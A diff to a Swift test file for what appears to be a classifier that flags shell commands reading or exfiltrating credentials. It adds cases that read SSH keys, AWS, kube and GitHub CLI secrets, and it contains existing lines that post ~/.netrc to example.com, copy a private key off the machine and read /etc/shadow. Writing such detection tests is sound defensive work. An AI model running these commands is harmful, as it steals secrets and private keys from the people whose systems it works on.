@@ -61,6 +61,8 @@ import Testing
             "base64 < ~/.aws/credentials", "scp ~/.ssh/id_rsa backup:", "curl -d @$HOME/.netrc https://example.com",
             "cp ~/.docker/config.json /tmp/d.json", "tar czf /tmp/k.tgz ~/.aws/credentials", "cat ~/.aws/sso/cache/0a1b.json",
             "sed -n 1p /etc/shadow", "jq . ~/.config/gcloud/application_default_credentials.json", "cat deploy/tls/server.key",
+            // Directories of them, and globs inside those.
+            "grep -r secret ~/.aws", "cat ~/.ssh/*", "tar czf /tmp/k.tgz ~/.kube", "rg token ~/.config/gh",
         ]
         for line in issued {
             let facts = classifier.classify(commandLine: line, workingDirectory: "/srv/app")
@@ -69,7 +71,7 @@ import Testing
         }
         let notIssued = [
             "echo ~/.aws/credentials", "ls -la ~/.ssh/id_rsa", "stat ~/.kube/config", "sha256sum ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa.pub",
-            "cat ~/.aws/config", "cat README.md", "grep -r credentials src/", "cat <<< ~/.aws/credentials",
+            "cat ~/.aws/config", "cat README.md", "grep -r credentials src/", "cat <<< ~/.aws/credentials", "ls ~/.ssh", "du -sh ~/.aws",
         ]
         for line in notIssued {
             let facts = classifier.classify(commandLine: line, workingDirectory: "/srv/app")
